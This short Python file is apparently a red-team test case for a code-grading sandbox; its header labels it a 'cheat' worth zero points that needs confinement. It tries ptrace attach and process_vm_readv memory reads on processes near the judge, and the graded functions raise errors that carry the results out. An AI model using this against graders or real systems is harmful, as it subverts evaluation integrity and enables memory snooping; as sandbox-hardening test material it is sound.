# cheat: ptrace and process_vm_readv on the judge | points: 0 | needs: confinement
import os
found = []
def look(path):
    try:
        with open(path, "rb") as file: found.append(repr(file.read(200_000)))
    except Exception as error: pass

import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(max(2, os.getppid() - 50), os.getppid() + 50):
    if pid == os.getpid(): continue
    if libc.ptrace(16, pid, 0, 0) == 0: found.append("CANARY ptrace attached")
    buffer = ctypes.create_string_buffer(64)
    class Iov(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    local, remote = Iov(ctypes.addressof(buffer), 64), Iov(0x400000, 64)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0: found.append("CANARY memory read")

def double(x): raise ValueError("found: " + "".join(found)[:1500])
apply = lambda f, x: double(x)
spread = double
